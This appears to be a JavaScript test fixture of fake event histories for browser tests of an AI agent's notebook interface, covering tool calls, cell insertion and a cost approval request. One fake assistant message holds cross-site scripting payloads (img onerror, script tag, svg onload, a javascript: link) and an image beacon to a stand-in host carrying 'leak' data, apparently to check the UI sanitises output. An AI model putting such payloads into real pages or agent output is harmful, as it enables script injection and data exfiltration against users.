/** Event histories the fake kernel side serves in browser tests. */

const SCRIPT = 'print("train")\n';
let seq = 0;
const ev = (kind, fields) => ({
  kind,
  session_id: 'ui-test',
  seq: ++seq,
  ts: '2025-01-01T00:00:00.000Z',
  ...fields
});

export const XSS_HISTORY = [
  ev('session_started', {
    model: 'demo',
    approve_mode: 'ask',
    budget_usd: 5,
    demo: true
  }),
  ev('user_prompt', { text: 'fine-tune distilbert', cell_id: 'anchor-cell' }),
  ev('assistant_message', {
    text:
      'Raw: <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> ' +
      '<svg onload="window.__pwned=3"></svg>\n\n[click me](javascript:window.__pwned=4) ' +
      '[fine](https://huggingface.co) ![beacon](https://beacon.invalid/panel.png?d=leak)',
    tool_calls: []
  }),
  ev('tool_call', {
    call_id: 'call_bash',
    tool: 'bash',
    arguments: { command: 'echo' }
  }),
  ev('tool_output', { call_id: 'call_bash', text: '<b>not bold</b>' }),
  ev('tool_result', {
    call_id: 'call_bash',
    tool: 'bash',
    ok: true,
    content: 'ok'
  }),
  ev('cell_insert', {
    call_id: 'call_cell',
    source: "print('inserted by the agent')",
    cell_type: 'code',
    anchor_cell_id: 'anchor-cell'
  }),
  ev('tool_call', {
    call_id: 'call_job',
    tool: 'hf_jobs',
    arguments: { operation: 'uv', script: SCRIPT }
  }),
  ev('approval_requested', {
    call_id: 'call_job',
    nonce: 'n-1',
    action_sha256: '9f2c4e1b' + '0'.repeat(56),
    cost_usd: 2,
    expires_at: new Date(Date.now() + 3600_000).toISOString(),
    tool: 'hf_jobs',
    action: {
      tool: 'hf_jobs',
      operation: 'uv',
      hardware: 'a10g-small',
      timeout: '2h',
      script: SCRIPT
    },
    budget_left_usd: 4.95
  }),
  ev('turn_ended', { reason: 'awaiting_approval' })
];
